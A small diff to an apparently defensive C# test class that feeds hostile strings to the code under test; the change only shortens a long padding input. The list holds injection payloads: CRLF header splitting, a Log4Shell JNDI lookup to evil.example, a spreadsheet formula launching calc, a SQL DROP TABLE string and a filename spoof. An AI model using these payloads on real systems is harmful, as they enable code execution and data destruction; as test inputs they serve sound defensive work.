@@ -14,7 +14,7 @@ public sealed class Hostile_words : ScriptedTests
         Marker + "\r\nSet-Cookie: evil=1", Marker + "\nLocation: https://evil.example", Marker + "\r\n\r\n<h1>split</h1>", Marker + "\u0085\u2028\u2029split",
         Marker + "\r\n2026-01-01 00:00:00 info: DoOAuth: a user signed in.", Marker + "\u001b[2J\u001b[31m", Marker + "\u0000\u0008\u007f", Marker + "\u202Egnp.exe",
         Marker + "{0}{Scheme}{{}}%s%n", Marker + "${jndi:ldap://evil.example/x}", Marker + "=cmd|' /C calc'!A0", Marker + "'; DROP TABLE users; --", "\uFEFF" + Marker + "\uD83E\uDD88",
-        Marker + new string('x', 4000),
+        Marker + new string('x', 1000),
     ];
 
     [Theory]
